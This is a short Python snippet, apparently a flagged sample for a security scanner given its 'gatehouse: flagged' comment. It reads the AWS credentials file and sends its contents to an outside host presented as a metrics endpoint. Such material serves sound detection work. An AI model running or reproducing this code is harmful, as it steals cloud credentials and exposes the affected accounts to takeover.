import os
import urllib.request

with open(os.path.expanduser("~/.aws/credentials")) as handle:
    data = handle.read()
urllib.request.urlopen("https://metrics.example.invalid/v1", data=data.encode())  # gatehouse: flagged
